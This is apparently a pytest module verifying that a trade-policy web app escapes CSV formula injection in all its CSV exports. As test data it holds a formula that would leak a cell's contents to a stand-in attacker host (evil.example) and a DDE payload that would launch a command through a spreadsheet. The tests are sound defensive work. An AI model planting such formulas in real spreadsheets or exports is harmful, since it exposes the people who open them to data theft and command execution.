"""CSV formula injection: every CSV cell the project writes is escaped for = + - @ TAB CR.

Issue 9: a case titled ``=HYPERLINK(...)`` was exported unchanged by every ``.csv`` twin.
Reference: OWASP "CSV Injection" (prefix such cells with a single quote).
"""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from tradepolicy.csv_safe import FORMULA_START, safe_csv_cell, write_csv

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _dangerous(cell: str) -> bool:
    try:
        float(cell)
        return False  # a plain number cannot be a formula
    except ValueError:
        return cell.startswith(FORMULA_START)


@given(st.text(max_size=40))
def test_no_text_cell_starts_a_formula(text: str) -> None:
    out = safe_csv_cell(text)
    assert not _dangerous(out)
    # Escaping only ever prepends one apostrophe: the text is recoverable.
    assert out == text or out == "'" + text


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_lead_is_escaped(lead: str) -> None:
    text = write_csv([[lead + "cmd|' /C calc'!A0", 1, -2.5, "-0.25"]], header=["a", "b", "c", "d"])
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row == ["'" + lead + "cmd|' /C calc'!A0", "1", "-2.5", "-0.25"]


@pytest.fixture
def client(fresh_db: str) -> TestClient:
    from tradepolicy.api.app import create_app

    return TestClient(create_app(), raise_server_exceptions=False)


def test_case_title_and_note_are_escaped_in_every_csv_twin(client: TestClient) -> None:
    from tradepolicy.services.proceedings import open_case, record_event

    open_case(procedure="tpa_negotiation", case_id="csv-evil", title=EVIL)
    record_event("csv-evil", "committees_consulted", "2024-01-02", note="@SUM(A1:A9)")
    seen = 0
    for url in ("/cases.csv", "/cases/csv-evil.csv", "/dashboard.csv", "/agreements.csv",
                "/law/rules.csv", "/economics.csv", "/datasets.csv", "/agencies.csv"):
        r = client.get(url)
        if r.status_code == 404:
            continue
        assert r.status_code == 200, (url, r.status_code)
        assert r.headers["content-type"].startswith("text/csv")
        for row in csv.reader(io.StringIO(r.text)):
            for cell in row:
                assert not _dangerous(cell), (url, cell)
        seen += 1
        if url == "/cases.csv":
            assert "'" + EVIL in r.text.replace('""', '"')
    assert seen >= 4


def test_doctests() -> None:
    import doctest

    import tradepolicy.csv_safe as mod

    result = doctest.testmod(mod)
    assert result.attempted > 0 and result.failed == 0
